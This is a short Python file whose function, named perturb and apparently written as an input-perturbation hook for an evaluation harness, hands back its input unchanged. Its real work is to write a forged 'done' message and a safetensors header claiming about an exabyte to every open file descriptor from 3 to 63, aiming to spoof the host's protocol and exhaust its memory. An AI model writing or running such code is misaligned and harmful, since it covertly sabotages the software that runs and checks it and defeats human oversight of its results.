"""Answer with a safetensors header that says it has an exabyte."""

import json
import os
import struct
import time


def perturb(x, y, query):
    said = json.dumps({"done": True}).encode()
    payload = struct.pack("<Q", 1 << 60) + b"{}"
    frame = struct.pack(">4sIQ", b"FTS1", len(said), len(payload)) + said + payload
    print("tried")
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    time.sleep(1)  # so that nothing follows it
    return x
